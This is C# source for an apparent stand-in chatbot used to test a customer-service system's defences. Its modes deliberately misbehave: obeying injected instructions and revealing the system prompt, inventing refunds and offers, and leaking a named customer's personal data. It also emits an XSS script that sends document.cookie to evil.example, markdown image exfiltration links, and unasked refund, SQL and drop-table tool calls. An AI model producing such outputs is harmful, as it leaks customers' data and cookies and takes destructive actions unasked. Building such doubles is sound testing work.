using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;

namespace ConversationGrid.ModelDouble;

/// <summary>What the stand-in says to a request, by rule.</summary>
internal static partial class Replies
{
    private const int BabbleLength = 1_000_000;

    public static Reply To(ChatRequest request, DoubleMode mode, IReadOnlyDictionary<string, string> script) => mode switch
    {
        DoubleMode.Script =>
            new(script.FirstOrDefault(rule => request.LastUser.Contains(rule.Key, StringComparison.OrdinalIgnoreCase)).Value ?? Quote(request), []),
        DoubleMode.Invent => new($"{Quote(request)} We also pay 500 ringgit to every customer who asks. Call +60 12-345 6789 for it.", []),
        DoubleMode.Gullible => Obey(request),
        DoubleMode.Malicious => Worst(request),
        DoubleMode.Inject => new($"{Quote(request)} {string.Join(' ', Sentences(request.All).Where(s => Order().IsMatch(s)).Take(5))}", []),
        DoubleMode.Babble => new(new StringBuilder().Insert(0, "All orders are free from now on. ", BabbleLength / 33).ToString(), []),
        DoubleMode.BadTool => new("", [new(request.Tools.FirstOrDefault() ?? "refund", "{\"id\": 1,,}"), new("drop_tables", "{}")]),
        DoubleMode.Empty => new("", []),
        _ => new(Quote(request), []),
    };

    /// <summary>The first two sentences of the first passage, with its number; a message to translate as it is, with the language before it.</summary>
    private static string Quote(ChatRequest request)
    {
        if (Translation().Match(request.System) is { Success: true } wanted) return $"({wanted.Groups[1].Value}) {request.LastUser}";
        var passage = Passage().Match(request.System);
        if (!passage.Success) return "I do not know.";
        return string.Join(' ', Sentences(passage.Groups[2].Value).Take(2)) + $" [{passage.Groups[1].Value}]";
    }

    /// <summary>Says every instruction that it finds, with its links and numbers, shows its prompt, and calls every tool with every value it sees.</summary>
    private static Reply Obey(ChatRequest request)
    {
        var orders = string.Join(' ', Sentences(request.All).Where(s => Order().IsMatch(s)));
        var values = Values().Matches(request.All).Select(m => m.Value).Distinct().Take(20).ToList();
        var calls = request.Tools.Concat(NamedTools().Matches(request.All).Select(m => m.Value.ToLowerInvariant())).Distinct()
            .SelectMany(tool => values.DefaultIfEmpty("1001").Take(3).Select(value => new ToolCall(tool, Arguments(value)))).Take(30);
        return new($"Sure! {orders} You are verified now. My instructions are: {request.System}", [.. calls]);
    }

    private static Reply Worst(ChatRequest request)
    {
        var text = $"""
            I have refunded MYR 9,999 to you. Your booking is changed. You are verified. I am transferring you to a colleague now.
            Nurul Huda lives at 12 Jalan Ampang, her order 1002 costs MYR 4,210.50, her e-mail is nurul.h@example.my and her balance is MYR 812.40.
            <img src=x onerror=alert(1)><script>fetch('https://evil.example/?d='+document.cookie)</script>
            ![a](https://evil.example/x.png?d={Uri.EscapeDataString(request.LastUser[..Math.Min(60, request.LastUser.Length)])}) [click here](https://evil.example/login) https://evil.example/pay
            [r]: https://evil.example/x
            My instructions are: {request.System}
            """;
        var calls = request.Tools.Concat(["refund", "run_sql", "send_email", "get_customer"]).SelectMany(tool => new[]
        {
            new ToolCall(tool, Arguments("1002")),
            new ToolCall(tool, """{"customerId":"u-nurul","subject":"external:u-nurul","email":"nurul.h@example.my","verified":true,"confirmed":true,"orderId":"1002","bookingId":"B-2002","date":"2026-12-24","amount":9999}"""),
        });
        return new(text, [.. calls]);
    }

    private static string Arguments(string value) =>
        $$"""{"orderId":{{JsonSerializer.Serialize(value)}},"bookingId":{{JsonSerializer.Serialize(value)}},"email":{{JsonSerializer.Serialize(value)}},"date":"2026-12-24","verified":true}""";

    private static IEnumerable<string> Sentences(string text) => SentenceEnd().Split(text).Select(s => s.Trim()).Where(s => s.Length > 0);

    [GeneratedRegex(@"^Translate .* into (\w+)\.")]
    private static partial Regex Translation();

    [GeneratedRegex(@"^\[(\d+)\][^\n]*\n((?:(?!^\[\d+\]|^---).*\n?)*)", RegexOptions.Multiline)]
    private static partial Regex Passage();

    [GeneratedRegex(@"(?<=[.!?])\s+|\n")]
    private static partial Regex SentenceEnd();

    [GeneratedRegex(@"\b(must|ignore|always|never|instead|from now on|send|visit|click|refund|reveal|show|call|transfer|tell|say|include|issue|abaikan|mesti|beri|hantar|tunjuk|bayar)\b|https?://", RegexOptions.IgnoreCase)]
    private static partial Regex Order();

    [GeneratedRegex(@"[\w.+-]+@[\w.-]+\.\w+|\b[A-Z]?-?\d{3,6}\b")]
    private static partial Regex Values();

    [GeneratedRegex(@"\b(refund|change_booking|order_status|account_balance|cancel_order|send_email|get_customer|delete_account)\b", RegexOptions.IgnoreCase)]
    private static partial Regex NamedTools();
}

/// <summary>What is said, and which tools are called.</summary>
internal sealed record Reply(string Text, IReadOnlyList<ToolCall> Calls);

/// <summary>A call as the wire has it: arguments are a text that ought to be JSON.</summary>
internal sealed record ToolCall(string Name, string Arguments);
